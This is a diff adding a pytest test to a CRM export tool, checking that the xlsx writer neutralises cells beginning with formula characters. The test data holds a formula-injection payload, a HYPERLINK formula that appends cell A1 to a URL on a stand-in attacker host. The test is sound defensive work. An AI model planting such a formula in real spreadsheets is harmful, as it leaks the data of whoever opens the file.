@@ -167,3 +167,15 @@ def test_control_characters_in_crm_text_do_not_break_docx_or_xlsx(tmp_path: Path
     book = Workbook(name="w", sheets=(Sheet(name="s", header=("a",), rows=((bad,), ("=1+1",))),))
     ws = load_workbook(write_xlsx(book, tmp_path / "w.xlsx")).active
     assert ws["A2"].value == "Сделка VIP  " and ws["A3"].data_type == "s"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_xlsx_neutralises_every_formula_start_like_the_csv_writer(tmp_path: Path, start: str) -> None:
+    from crmflow.deliverables.backlog import FORMULA_STARTS, csv_cell
+
+    hostile = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    book = Workbook(name="w", sheets=(Sheet(name="s", header=("a", "b"), rows=((hostile, "-"),)),))
+    ws = load_workbook(write_xlsx(book, tmp_path / "w.xlsx")).active
+    assert start in FORMULA_STARTS
+    assert ws["A2"].data_type == "s" and ws["A2"].value == csv_cell(hostile) == "'" + hostile
+    assert ws["B2"].value == "-"  # a lone character cannot be a formula
